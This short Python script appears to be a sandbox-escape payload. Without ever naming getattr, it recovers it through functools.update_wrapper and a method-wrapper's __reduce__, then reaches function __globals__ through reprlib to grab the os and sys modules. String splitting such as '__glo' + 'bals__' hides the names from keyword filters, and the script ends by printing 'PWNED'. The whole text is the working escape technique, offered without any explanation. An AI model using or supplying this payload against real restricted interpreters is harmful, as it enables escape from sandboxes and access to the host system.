import functools, reprlib, abc
box = {}
class W:
    def __setattr__(self, k, v):
        box[k] = v
target = (1).__add__
uw = functools.wraps(target).func          # update_wrapper as a value, never named
uw(W(), target, ("__red" + "uce__",), ())
g, args = box["__red" + "uce__"]()          # method-wrapper reduce: (getattr, (1, '__add__'))
print("helper:", g)
r = reprlib.Repr()
r.repr_function = g
meta = type(abc.ABC)
G = r.repr1(meta.register, "__glo" + "bals__")
osm = G["o" + "s"]
sysm = G["s" + "ys"]
print("PW" + "NED", osm.getpid(), len(sysm.modules))
